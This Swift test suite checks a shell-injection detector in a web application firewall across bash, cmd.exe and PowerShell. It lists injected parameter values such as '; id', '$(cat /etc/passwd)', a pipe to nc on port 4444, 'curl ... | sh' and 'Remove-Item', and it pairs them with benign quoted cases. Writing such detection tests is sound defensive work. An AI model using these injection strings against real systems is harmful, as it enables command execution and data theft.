import Testing
@testable import RampartWAF

struct ShellCase: CustomTestStringConvertible, Sendable {
    var command: String
    var parameter: String
    var testDescription: String { "\(command) ← \(parameter)" }
    init(_ command: String, _ parameter: String) {
        self.command = command
        self.parameter = parameter
    }
}

@Suite struct ShellInjectionDetectorTests {

    static let injectionCases: [ShellCase] = [
        ShellCase("ping -c 1 8.8.8.8; id", "8.8.8.8; id"),
        ShellCase("ping -c 1 8.8.8.8;id", "8.8.8.8;id"),
        ShellCase("ping -c 1 x && id", "x && id"),
        ShellCase("ping -c 1 x&&id", "x&&id"),
        ShellCase("ping -c 1 x || id", "x || id"),
        ShellCase("ping -c 1 x | nc 10.0.0.1 4444", "x | nc 10.0.0.1 4444"),
        ShellCase("ping -c 1 x|sh", "x|sh"),
        ShellCase("ping -c 1 x & id", "x & id"),
        ShellCase("ping -c 1 x&", "x&"),
        ShellCase("ping -c 1 1\nid", "1\nid"),
        ShellCase("ping -c 1 $(id)", "$(id)"),
        ShellCase("ping -c 1 `id`", "`id`"),
        ShellCase("ping -c 1 a$(id)b", "a$(id)b"),
        ShellCase("ping -c 1 ${IFS}id", "${IFS}id"),
        ShellCase("ping -c 1 $HOME", "$HOME"),
        ShellCase("echo \"$(cat /etc/passwd)\"", "$(cat /etc/passwd)"),
        ShellCase("echo \"`id`\"", "`id`"),
        ShellCase("echo \"${PATH}\"", "${PATH}"),
        ShellCase("echo \"$HOME\"", "$HOME"),
        ShellCase("echo 'x'; id; ''", "x'; id; '"),
        ShellCase("echo 'x'$(id)''", "x'$(id)'"),
        ShellCase("convert ''$(id)'' out.png", "'$(id)'"),
        ShellCase("git log --author=\"x\"; id; \"\" -n 5", "x\"; id; \""),
        ShellCase("git log --author=\"x\" --exec=y \"\"", "x\" --exec=y \""),
        ShellCase("cat file > /tmp/x", "file > /tmp/x"),
        ShellCase("cat file>/tmp/x", "file>/tmp/x"),
        ShellCase("cat a >> /tmp/x", "a >> /tmp/x"),
        ShellCase("cat < /etc/passwd", "< /etc/passwd"),
        ShellCase("cat x 2>&1", "x 2>&1"),
        ShellCase("cat x &> /dev/null", "x &> /dev/null"),
        ShellCase("cat <<< hello", "<<< hello"),
        ShellCase("ls x # rest", "x # rest"),
        ShellCase("ls x #", "x #"),
        ShellCase("ls a b", "a b"),
        ShellCase("ls -la /tmp", "-la /tmp"),
        ShellCase("ls x\ty", "x\ty"),
        ShellCase("id", "id"),
        ShellCase("/usr/bin/id -u", "id"),
        ShellCase("/usr/bin/whoami", "/usr/bin/whoami"),
        ShellCase("curl http://x | sh", "curl"),
        ShellCase("echo ok; bash -i", "bash"),
        ShellCase("ping $(echo x) $(id)", "$(id)"),
        ShellCase("ping (id)", "(id)"),
        ShellCase("ping x;;id", "x;;id"),
        ShellCase("sh -c 'ping -c 1 x'; id; ''", "x'; id; '"),
        ShellCase("cat <<EOF\nline\nEOF\nid\n", "line\nEOF\nid"),
        ShellCase("cat <<'EOF'\nx\nEOF\nid", "x\nEOF\nid"),
        ShellCase("grep -e x -- \"$(id)\" file", "$(id)"),
        ShellCase("echo $((1+1))", "$((1+1))"),
        ShellCase("echo a|&b", "a|&b"),
        ShellCase("echo \\\n;id", "\\\n;id"),
        ShellCase("VAR=x; id", "x; id"),
        ShellCase("FOO=bar id", "id"),
        ShellCase("if true; then id; fi", "then id"),
        ShellCase("echo `echo \\`id\\``", "`echo \\`id\\``"),
        ShellCase("wget http://example.com/$(id)", "http://example.com/$(id)"),
        ShellCase("echo ${#x}", "${#x}"),
        ShellCase("echo x\n\nid", "x\n\nid"),
    ]

    static let benignCases: [ShellCase] = [
        ShellCase("ping -c 1 8.8.8.8", "8.8.8.8"),
        ShellCase("ping -c 1 example.com", "example.com"),
        ShellCase("ping -c 1 '8.8.8.8; cat /etc/passwd'", "8.8.8.8; cat /etc/passwd"),
        ShellCase("ping -c 1 'x && id'", "x && id"),
        ShellCase("ping -c 1 \"x && id\"", "x && id"),
        ShellCase("ping -c 1 \"x | nc 10.0.0.1 4444\"", "x | nc 10.0.0.1 4444"),
        ShellCase("ping -c 1 '$(id)'", "$(id)"),
        ShellCase("ping -c 1 '`id`'", "`id`"),
        ShellCase("ping -c 1 '${IFS}'", "${IFS}"),
        ShellCase("convert '$(not-run).png' /tmp/out.png", "$(not-run).png"),
        ShellCase("convert 'my photo.png' /tmp/out.png", "my photo.png"),
        ShellCase("convert 'a;b.png' /tmp/out.png", "a;b.png"),
        ShellCase("git log --author=\"Jane Doe\" -n 5", "Jane Doe"),
        ShellCase("git log --author=\"dev team\" -n 5", "dev team"),
        ShellCase("git log --author=\"O'Reilly\" -n 5", "O'Reilly"),
        ShellCase("echo 'it'\\''s'", "it"),
        ShellCase("nslookup report_2024", "report_2024"),
        ShellCase("nslookup host-01.internal", "host-01.internal"),
        ShellCase("ls -la /tmp/uploads/a.txt", "a.txt"),
        ShellCase("ls -la /tmp/uploads/a.txt", "/tmp/uploads/a.txt"),
        ShellCase("ls 'a b c'", "a b c"),
        ShellCase("ls a\\ b", "a\\ b"),
        ShellCase("ls a\\;b", "a\\;b"),
        ShellCase("ls \"a\\\"b\"", "a\\\"b"),
        ShellCase("echo 'line1\nline2'", "line1\nline2"),
        ShellCase("echo \"line1\nline2\"", "line1\nline2"),
        ShellCase("echo $'a\\'b'", "a\\'b"),
        ShellCase("echo 'a#b'", "a#b"),
        ShellCase("echo a#b", "a#b"),
        ShellCase("echo 'x > y'", "x > y"),
        ShellCase("echo \"x < y\"", "x < y"),
        ShellCase("echo \"$(date)\" 'user input'", "user input"),
        ShellCase("echo $(date +%Y) 2024", "2024"),
        ShellCase("echo $(cat 'notes.txt')", "notes.txt"),
        ShellCase("echo `cat notes.txt`", "notes.txt"),
        ShellCase("echo ${HOME}/x", "/x"),
        ShellCase("cat <<EOF\nhello world; id\nEOF", "hello world; id"),
        ShellCase("cat <<'EOF'\n$(id) `id`\nEOF", "$(id) `id`"),
        ShellCase("grep -r -- 'pattern|other' .", "pattern|other"),
        ShellCase("find . -name '*.png'", "*.png"),
        ShellCase("ls *.png", "*.png"),
        ShellCase("ls file?.txt", "file?.txt"),
        ShellCase("tar czf backup.tgz docs", "backup.tgz"),
        ShellCase("echo price: 5$", "5$"),
        ShellCase("echo \"Total: $5\"", "Total: $5"),
        ShellCase("echo $0", "$0"),
        ShellCase("echo $?x", "$?x"),
        ShellCase("echo 'a' $$", "$$"),
        ShellCase("echo 100%", "100%"),
        ShellCase("echo a=b", "a=b"),
        ShellCase("curl 'https://example.com/?a=1&b=2'", "https://example.com/?a=1&b=2"),
        ShellCase("curl \"https://example.com/?a=1&b=2\"", "https://example.com/?a=1&b=2"),
        ShellCase("echo xy", "xy"),
        ShellCase("echo 'x'", "'x'"),
        ShellCase("echo  hello  ", " hello "),
        ShellCase("ping -c 1 8.8.8.8", "-c"),
        ShellCase("echo ok", "ls"),
        ShellCase("/usr/bin/ping -c 1 host", "bin"),
        ShellCase("echo 'ping'", "ping"),
        ShellCase("echo \"a\" \"b\"", "\"a\""),
        ShellCase("echo {a,b}", "{a,b}"),
        ShellCase("echo '\\n'", "\\n"),
    ]

    @Test(arguments: injectionCases)
    func injection(_ testCase: ShellCase) throws {
        let finding = try #require(ShellInjectionDetector.detect(
            commandLine: testCase.command, parameters: RaspTestSupport.query(testCase.parameter)))
        #expect(finding.detector == "shi_detector")
        #expect(finding.parameter.value == testCase.parameter)
        let location = try #require(finding.location)
        #expect(Array(testCase.command.utf8)[location] == Array(testCase.parameter.utf8)[...])
        #expect(!finding.reason.isEmpty)
    }

    @Test(arguments: benignCases)
    func benign(_ testCase: ShellCase) {
        let finding = ShellInjectionDetector.detect(commandLine: testCase.command, parameters: RaspTestSupport.query(testCase.parameter))
        #expect(finding == nil, "\(finding?.reason ?? "")")
    }

    @Test func reasonsNameTheConstruct() throws {
        let semicolon = try #require(ShellInjectionDetector.detect(commandLine: "ls x; id", parameters: RaspTestSupport.query("x; id")))
        #expect(semicolon.reason.contains("`;`"))
        let substitution = try #require(ShellInjectionDetector.detect(commandLine: "ls $(id)", parameters: RaspTestSupport.query("$(id)")))
        #expect(substitution.reason.contains("substitution"))
        let words = try #require(ShellInjectionDetector.detect(commandLine: "ls a -la", parameters: RaspTestSupport.query("a -la")))
        #expect(words.reason.contains("2 shell words"))
        let program = try #require(ShellInjectionDetector.detect(commandLine: "whoami", parameters: RaspTestSupport.query("whoami")))
        #expect(program.reason.contains("program name"))
    }

    @Test(arguments: [
        ("sh -c \"ping -c 1 x; id\"", "x; id"),
        ("bash -c 'ping x && id'", "x && id"),
        ("/bin/sh -ec 'ping x|sh'", "x|sh"),
        ("sudo sh -c \"ping x|sh\"", "x|sh"),
        ("env -i sh -c 'ls a b'", "a b"),
        ("bash --norc -c 'ping a b'", "a b"),
        ("sh -c 'echo x; id' name", "x; id"),
        ("sh -c \"sh -c 'ping x; id'\"", "x; id"),
        ("cd /tmp && sh -c 'tar xf x.tar; id'", "x.tar; id"),
        ("sh -c \"echo \\\"$(id)\\\"\"", "$(id)"),
    ])
    func nestedShellScripts(_ command: String, _ parameter: String) throws {
        let finding = try #require(ShellInjectionDetector.detect(commandLine: command, parameters: RaspTestSupport.query(parameter)))
        #expect(finding.reason.contains("nested `sh -c`") || finding.reason.contains("substitution"))
    }

    @Test(arguments: [
        ("sh -c 'ping \"x; id\"'", "x; id"),
        ("echo \"sh -c x; id\"", "x; id"),
        ("sh script.sh 'x; id'", "x; id"),
        ("sh -c 'ping \"$1\"' sh 'x; id'", "x; id"),
        ("python3 -c 'print(1); x = 2'", "print(1); x = 2"),
        ("sh -c 'ping -c 1 8.8.8.8'", "8.8.8.8"),
    ])
    func nestedShellScriptsBenign(_ command: String, _ parameter: String) {
        let finding = ShellInjectionDetector.detect(commandLine: command, parameters: RaspTestSupport.query(parameter))
        #expect(finding == nil, "\(finding?.reason ?? "")")
    }

    @Test func parameterNotInCommandIsIgnored() {
        #expect(ShellInjectionDetector.detect(commandLine: "ls /tmp", parameters: RaspTestSupport.query("; id")) == nil)
        #expect(ShellInjectionDetector.detect(commandLine: "ls /tmp", parameters: []) == nil)
        #expect(ShellInjectionDetector.detect(commandLine: "", parameters: RaspTestSupport.query("x; y")) == nil)
    }

    @Test func singleByteParametersAreIgnored() {
        #expect(ShellInjectionDetector.detect(commandLine: "ls; id", parameters: RaspTestSupport.query(";")) == nil)
    }

    @Test func laterOccurrenceIsChecked() throws {
        // The first occurrence is quoted, the second is not.
        let finding = try #require(ShellInjectionDetector.detect(
            commandLine: "echo 'a;b' a;b", parameters: RaspTestSupport.query("a;b")))
        #expect(finding.location == 11..<14)
    }

    @Test func secondParameterIsReported() throws {
        let finding = try #require(ShellInjectionDetector.detect(
            commandLine: "ping -c 1 x; id", parameters: RaspTestSupport.query("en", "x; id")))
        #expect(finding.parameter.keyPath == [.key("q1"), .index(0)])
    }

    @Test func cmdDialect() throws {
        #expect(ShellInjectionDetector.detect(commandLine: "ping -n 1 x & whoami", dialect: .cmd,
                                              parameters: RaspTestSupport.query("x & whoami")) != nil)
        #expect(ShellInjectionDetector.detect(commandLine: "echo %USERPROFILE%", dialect: .cmd,
                                              parameters: RaspTestSupport.query("%USERPROFILE%")) != nil)
        #expect(ShellInjectionDetector.detect(commandLine: "ping -n 1 \"x & whoami\"", dialect: .cmd,
                                              parameters: RaspTestSupport.query("x & whoami")) == nil)
        // Single quotes do not quote in cmd.exe.
        #expect(ShellInjectionDetector.detect(commandLine: "ping -n 1 'x & whoami'", dialect: .cmd,
                                              parameters: RaspTestSupport.query("x & whoami")) != nil)
        #expect(ShellInjectionDetector.detect(commandLine: "echo x^&y", dialect: .cmd,
                                              parameters: RaspTestSupport.query("x^&y")) == nil)
    }

    @Test func powershellDialect() throws {
        #expect(ShellInjectionDetector.detect(commandLine: "Get-Item x; Remove-Item y", dialect: .powershell,
                                              parameters: RaspTestSupport.query("x; Remove-Item y")) != nil)
        #expect(ShellInjectionDetector.detect(commandLine: "Get-Item \"$(whoami)\"", dialect: .powershell,
                                              parameters: RaspTestSupport.query("$(whoami)")) != nil)
        #expect(ShellInjectionDetector.detect(commandLine: "Get-Item 'x; y'", dialect: .powershell,
                                              parameters: RaspTestSupport.query("x; y")) == nil)
        #expect(ShellInjectionDetector.detect(commandLine: "Get-Item 'it''s; y'", dialect: .powershell,
                                              parameters: RaspTestSupport.query("it''s; y")) == nil)
    }
}
